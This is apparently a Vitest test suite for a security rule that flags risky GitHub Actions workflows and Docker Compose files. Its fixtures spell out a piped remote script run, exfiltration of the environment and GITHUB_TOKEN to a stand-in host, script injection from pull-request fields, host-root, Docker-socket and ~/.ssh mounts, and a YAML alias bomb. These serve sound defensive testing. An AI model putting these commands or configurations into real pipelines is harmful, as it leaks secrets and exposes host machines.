import { describe, expect, it } from "vitest";
import { ciFilesRule } from "../../../../src/gate/rules/ci-files.ts";
import { ask, commit, severities, write } from "../fixtures.ts";

const rule = ciFilesRule();
const SHA = "a".repeat(40);
const WORKFLOW = ".github/workflows/ci.yml";
const steps = (...rows: readonly string[]): string =>
  `on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${rows.map((row) => `      - ${row}\n`).join("")}`;
const target = (...rows: readonly string[]): string => steps(...rows).replace("pull_request", "pull_request_target");
const service = (text: string): string => `services:\n  a:\n    image: x\n    ${text}\n`;

describe("what CI and containers carry out", () => {
  it.each<[string, string, string, string, number]>([
    ["a privileged trigger", WORKFLOW, "on:\n  pull_request_target:\n    types: [opened]\njobs: {}\n", "warn", 2],
    ["a privileged trigger in a list", WORKFLOW, "on: [push, workflow_run]\njobs: {}\n", "warn", 1],
    [
      "a stranger's head under a privileged trigger",
      WORKFLOW,
      target("uses: actions/checkout@v4", "uses: actions/checkout@v4\n        with: {ref: '${{ github.event.pull_request.head.sha }}'}"),
      "block",
      8,
    ],
    [
      "a stranger's head by its number",
      WORKFLOW,
      target("uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.number }}/merge"),
      "block",
      8,
    ],
    ["a title in a script", WORKFLOW, steps('run: echo "${{ github.event.issue.title }}"'), "block", 6],
    [
      "a branch's name in a script of several lines",
      WORKFLOW,
      steps("run: |\n          echo a\n          git switch ${{ github.head_ref }}"),
      "block",
      6,
    ],
    [
      "a comment in a script of JavaScript",
      WORKFLOW,
      steps("uses: actions/github-script@v7\n        with:\n          script: 'f(`${{ github.event.comment.body }}`)'"),
      "block",
      8,
    ],
    ["text by another notation", WORKFLOW, steps("run: echo ${{ github.event['issue'].title }}"), "block", 6],
    ["a commit's message in a script", WORKFLOW, steps("run: echo ${{github.event.head_commit.message}}"), "block", 6],
    ["an input in a script", WORKFLOW, steps("run: echo ${{ inputs.name }}"), "warn", 6],
    ["an action by its tag", WORKFLOW, steps("uses: someone/action@v1"), "warn", 6],
    ["an image by its tag", WORKFLOW, steps("uses: docker://alpine:3"), "warn", 6],
    ["a called workflow by its branch", WORKFLOW, "on: push\njobs:\n  a:\n    uses: o/r/.github/workflows/x.yml@main\n", "warn", 4],
    ["inherited secrets", WORKFLOW, "on: push\njobs:\n  a:\n    uses: ./.github/workflows/x.yml\n    secrets: inherit\n", "warn", 5],
    ["every right", WORKFLOW, "on: push\npermissions: write-all\njobs: {}\n", "block", 2],
    ["a right to write", WORKFLOW, "on: push\njobs:\n  a:\n    permissions:\n      id-token: write\n", "warn", 5],
    ["all secrets at once", WORKFLOW, steps("run: echo\n        env: {ALL: '${{ toJSON(secrets) }}'}"), "block", 7],
    ["a script that is fetched and run", WORKFLOW, steps("run: curl -sSL https://x.test/i | sudo bash"), "warn", 6],
    ["an environment that is sent away", WORKFLOW, steps("run: env | base64 | curl -d @- https://x.test"), "block", 6],
    ["a token that is sent away", WORKFLOW, steps('run: curl "https://x.test/?t=$GITHUB_TOKEN"'), "block", 6],
    ["an own machine for strangers", WORKFLOW, "on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n", "block", 4],
    ["trust in a bot's name", WORKFLOW, "on: push\njobs:\n  a:\n    if: github.actor == 'dependabot[bot]'\n", "warn", 4],
    ["a release from a cache", WORKFLOW, steps("uses: actions/cache@v4").replace("pull_request", "release"), "warn", 6],
    ["variables under a privileged trigger", WORKFLOW, target('run: echo "A=b" >> "$GITHUB_ENV"'), "warn", 6],
    ["commands in output", WORKFLOW, "on: push\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\njobs: {}\n", "block", 3],
    [
      "a composite action's script",
      "tools/action.yml",
      "runs:\n  using: composite\n  steps:\n    - run: echo ${{ github.event.issue.body }}\n",
      "block",
      4,
    ],
    ["a workflow in another case", ".GitHub/Workflows/CI.YML", steps("run: echo ${{ github.head_ref }}"), "block", 6],
    ["a script that comes by an alias", WORKFLOW, `x: &s {run: 'echo \${{ github.head_ref }}'}\n${steps("*s")}`, "block", 1],
    ["a job that comes by a merge key", WORKFLOW, "x: &j\n  permissions: write-all\non: push\njobs:\n  a:\n    <<: *j\n", "block", 2],
    ["a text that is no YAML", WORKFLOW, "on: [push\njobs: {", "ask", 0],
    ["aliases of aliases", WORKFLOW, bomb(), "ask", 0],
    ["a privileged container", "docker-compose.yml", service("privileged: true"), "block", 4],
    ["the whole machine", "docker-compose.yml", service('volumes: ["/:/host"]'), "block", 4],
    ["everything at once in one line", "docker-compose.yml", 'services: {a: {privileged: true, volumes: ["/:/host"]}}', "block", 1],
    ["the engine's socket", "deploy/compose.prod.yaml", service("volumes:\n      - /var/run/docker.sock:/var/run/docker.sock"), "block", 5],
    ["a home", "compose.yml", service("volumes: ['~/.ssh:/ssh:ro']"), "block", 4],
    ["a home by its variable", "compose.yml", service("volumes: ['${HOME}/.aws:/aws']"), "block", 4],
    [
      "a mount in the long form",
      "compose.yml",
      service("volumes:\n      - type: bind\n        source: /etc\n        target: /x"),
      "block",
      6,
    ],
    [
      "a named volume of a folder of the machine",
      "compose.yml",
      "services: {}\nvolumes:\n  v:\n    driver_opts:\n      device: /root\n",
      "block",
      5,
    ],
    ["a folder beside the project", "compose.yml", service("volumes: ['../other:/o']"), "warn", 4],
    ["a strong capability", "compose.yml", service("cap_add: [SYS_ADMIN]"), "block", 4],
    ["the machine's processes", "compose.yml", service("pid: host"), "block", 4],
    ["the machine's network", "compose.yml", service("network_mode: host"), "warn", 4],
    ["no protection", "compose.yml", service("security_opt: ['seccomp:unconfined']"), "block", 4],
  ])("finds %s", async (_, path, text, severity, line) => {
    const findings = await ask(rule, write(path, text));
    expect(findings).toContainEqual(expect.objectContaining({ severity, where: line === 0 ? { path } : { path, line } }));
    expect(severities(await ask(rule, commit({ [path]: { after: text } })))).toContain(severity);
  });

  it.each<[string, string, string]>([
    [
      "an ordinary workflow",
      WORKFLOW,
      `${steps("uses: actions/checkout@v4", `uses: o/a@${SHA} # v1`, "run: npm ci && npm test")}permissions:\n  contents: read\n`,
    ],
    [
      "numbers of a pull request in a script",
      WORKFLOW,
      steps("run: echo ${{ github.event.pull_request.number }} ${{ github.sha }} ${{ matrix.node }}"),
    ],
    ["a title that is handed over in env", WORKFLOW, steps('run: echo "$TITLE"\n        env: {TITLE: "${{ github.event.issue.title }}"}')],
    ["a download that runs nothing", WORKFLOW, steps("run: curl -fsSLo a.tgz https://x.test/a.tgz && sha256sum -c a.sha")],
    ["a workflow in a folder of sources", "src/workflows/ci.yml", target("run: echo ${{ github.head_ref }}")],
    ["a fixture", "test/fixtures/.github-sample/ci.yml", "on: pull_request_target\n"],
    ["an empty workflow", WORKFLOW, ""],
    [
      "services of a project",
      "docker-compose.yml",
      service('volumes: ["./data:/data", "db:/var/lib/postgresql/data", "/app/node_modules", ".:/app:cached"]\n    ports: ["8080:80"]'),
    ],
    ["the machine's time", "compose.yml", service('volumes: ["/etc/localtime:/etc/localtime:ro"]')],
    ["what is not privileged", "compose.yml", service("privileged: false\n    cap_drop: [ALL]\n    network_mode: bridge")],
    ["a file that only sounds alike", "docs/compose-guide.md", "privileged: true"],
  ])("lets through %s", async (_, path, text) => {
    expect(await ask(rule, write(path, text))).toEqual([]);
  });

  it("only reports what the file did before, and finds one more of it", async () => {
    const old = steps("run: echo ${{ github.head_ref }}");
    expect(severities(await ask(rule, write(WORKFLOW, `# a\n${old}`, old)))).toEqual(["info"]);
    expect(severities(await ask(rule, write(WORKFLOW, `${old}      - run: git switch \${{ github.head_ref }}\n`, old)))).toEqual([
      "info",
      "block",
    ]);
    expect(severities(await ask(rule, write(WORKFLOW, "a: [b", "a: [")))).toEqual(["info"]);
    expect(await ask(rule, commit({ [WORKFLOW]: { before: old } }))).toEqual([]);
  });
});

/** Nine levels of nine aliases each. */
function bomb(): string {
  const rows = Array.from({ length: 9 }, (_, level) => `a${level + 1}: &a${level + 1} [${Array(9).fill(`*a${level}`).join(", ")}]`);
  return `a0: &a0 [x]\n${rows.join("\n")}\n`;
}
